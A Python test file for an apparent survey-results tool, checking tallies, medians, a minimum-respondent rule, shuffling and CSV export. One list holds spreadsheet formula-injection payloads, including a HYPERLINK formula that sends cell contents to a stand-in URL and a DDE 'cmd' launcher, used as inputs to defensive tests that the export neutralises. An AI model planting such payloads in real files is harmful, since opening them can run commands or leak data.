"""What many files say together: counts, medians, an order by chance, and a table."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from typing import Any

import pytest

from browser.node_source import call_each, evaluate_each

STEPS = [{"id": each, "label": each, "was": []} for each in "12345"]
FIT = {"id": "fit", "was": [], "kind": "scale", "label": "It fits", "options": STEPS}
GAINS = {
    "id": "gains",
    "was": [],
    "kind": "checklist",
    "label": "What it gave",
    "options": [
        {"id": "a", "label": "Skills", "was": []},
        {"id": "b", "label": "People", "was": []},
    ],
}
CHANGE = {"id": "change", "was": [], "kind": "long_text", "label": "What to change", "options": []}
TALLY = """(question, files, different) => {
  const read = each => ({answers: new Map(Object.entries(each))})
  return source.tally(question, files.map(read), different?.map(read))
}"""
CSV = """(people, tallies) => source.writeCsv(
  people, tallies.map(each => ({...each, median: each.median ?? undefined})))"""


def tally(
    question: dict[str, Any], *files: dict[str, Any], different: Any = None
) -> dict[str, Any]:
    """Return what these files say of a question."""
    return dict(
        evaluate_each("collected/results/tally.ts", TALLY, [[question, files, different]])[0]
    )


def rate(*numbers: int) -> list[dict[str, Any]]:
    """Return a file for each rating."""
    return [{"fit": [str(number)]} for number in numbers]


@pytest.mark.parametrize(
    ("numbers", "median"),
    [([3], 3), ([1, 5], 3), ([4, 5], 4.5), ([5, 1, 2], 2), ([1, 1, 2, 5], 1.5), ([], None)],
)
def test_the_median_is_the_number_in_the_middle(numbers: list[int], median: float | None):
    """Half-way between two, where there is no single one; in order of size, not of arrival."""
    assert call_each("collected/results/tally.ts", "findMedian", [[numbers]]) == [median]


def test_each_option_is_counted_once_a_file():
    """Those who left a question out are not among its people."""
    found = tally(GAINS, {"gains": ["a", "b"]}, {"gains": ["b"]}, {"fit": ["4"]})
    assert (found["answered"], found["counts"]) == (2, [1, 2])
    assert "median" not in found
    found = tally(FIT, *rate(5, 4, 4, 1, 2))
    assert (found["counts"], found["median"], found["isShown"]) == ([1, 1, 0, 2, 1], 4, True)


def test_below_five_people_a_question_is_not_shown():
    """Files that hold the same as others do not help to get there."""
    assert not tally(FIT, *rate(5, 4, 4, 1))["isShown"]
    assert not tally(FIT, *rate(5, 4, 4, 1, 4), different=rate(5, 4, 1))["isShown"]
    (words,) = call_each("collected/results/say-tally.ts", "sayTally", [[tally(FIT, *rate(5, 4))]])
    assert words == "Five people have to answer this before it is shown."
    few = tally(FIT, *rate(5, 4, 4, 1))
    (table,) = evaluate_each("collected/results/write-csv.ts", CSV, [[4, [few]]])
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert rows[2:] == [["It fits", "Too few answers to be shown", ""]], "nor in the table"


@pytest.mark.parametrize(
    ("question", "files", "words"),
    [
        (FIT, rate(5, 4, 4, 1, 2), "The median is 4 of 5. 5 people answered."),
        (GAINS, [{"gains": ["a"]}] * 5, "5 people answered."),
        (CHANGE, [{"change": ["More"]}], "1 comment, in an order by chance."),
        (CHANGE, rate(5), "Nobody answered this."),
    ],
)
def test_what_is_shown_is_said_in_a_sentence(
    question: dict[str, Any], files: Sequence[dict[str, Any]], words: str
):
    """So that no picture is needed to know it."""
    found = tally(question, *files)
    say = "each => source.sayTally({...each, median: each.median ?? undefined})"
    assert evaluate_each("collected/results/say-tally.ts", say, [[found]]) == [words]


def test_shuffled_things_are_the_same_things_in_another_order():
    """What is drawn decides the order, and nothing else does."""
    shuffle = "collected/results/shuffle.ts"
    draw = "(things, last) => source.shuffle(things, below => last ? below - 1 : 0)"
    assert evaluate_each(shuffle, draw, [[[1, 2, 3], True], [[1, 2, 3], False]]) == [
        [3, 2, 1],
        [1, 2, 3],
    ]
    many = list(range(200))
    (by_chance,) = call_each(shuffle, "shuffle", [[many]])
    assert sorted(by_chance) == many
    assert by_chance != many


def write_csv(*texts: str) -> str:
    """Return the table of a rating and these comments."""
    tallies = [tally(FIT, *rate(5, 4, 4, 1, 2)), tally(CHANGE, *({"change": [t]} for t in texts))]
    return str(evaluate_each("collected/results/write-csv.ts", CSV, [[5, tallies]])[0])


def test_the_table_has_a_line_for_each_answer():
    """Excel knows by its mark that it is UTF-8; no line is a person's."""
    text = write_csv("Naïve “words”, and\nmore")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[:3] == [
        ["Question", "Answer", "Number"],
        ["All questions", "Files read", "5"],
        ["It fits", "1", "1"],
    ]
    assert rows[-3:] == [
        ["It fits", "Median", "4"],
        ["It fits", "People who answered", "5"],
        ["What to change", "Naïve “words”, and\nmore", ""],
    ]


FORMULAS = [
    '=HYPERLINK("https://example.com/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    " =1",
    "\t=1",
    "\u200b=1",
    "＝1",  # noqa: RUF001 - as wide as a letter of Chinese
    "fine;=1",
    "fine\n=1",
    'fine";=1',
]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula(text: str, delimiter: str):
    """Whatever parts the cells in the program that opens it."""
    content = write_csv(text).removeprefix("\ufeff")
    cells = [
        cell
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter)
        for cell in row
    ]
    starts = {cell.strip(" \t\r\n\u200b")[:1] for cell in cells}
    assert not starts & set("=+-@＝")  # noqa: RUF001 - as above


def test_files_that_hold_the_same_are_known_and_a_broken_one_is_named():
    """By their bytes, and not by their names."""
    known = [{"id": "survey", "was": [], "title": "Survey", "questions": [FIT]}]
    put = """(files, format, known) => {
      const heap = source.growHeap(source.EMPTY)
      for (const [name, bytes] of files) source.addFile(heap, {name, bytes}, format, known)
      const alike = heap.alike.map(({name}) => name)
      return {count: heap.files.size, alike, leftOut: heap.leftOut}
    }"""
    start = b'{"format": "f", "version": 1, "worksheet": "survey", "answers": {"fit": '
    files = [["a", start + b'"4"}}'], ["b", start + b'"5"}}'], ["c", start + b'"4"}}'], ["d", b"{"]]
    (heap,) = evaluate_each("collected/heap.ts", put, [[files, "f", known]])
    assert (heap["count"], heap["alike"]) == (2, ["c"])
    assert [each["name"] for each in heap["leftOut"]] == ["d"]


def test_a_heap_is_not_copied_for_each_file():
    """Whoever drops ten thousand of them need not wait; the heap that is shown stays as it is."""
    known = [{"id": "survey", "was": [], "title": "Survey", "questions": [FIT]}]
    put = """(bytes, format, known) => {
      const heap = source.growHeap(source.EMPTY)
      const {files} = heap
      source.addFile(heap, {name: "a", bytes}, format, known)
      return [heap.files === files, files.size, source.EMPTY.files.size]
    }"""
    file = b'{"format": "f", "version": 1, "worksheet": "survey", "answers": {"fit": "4"}}'
    assert evaluate_each("collected/heap.ts", put, [[file, "f", known]]) == [[True, 1, 0]]
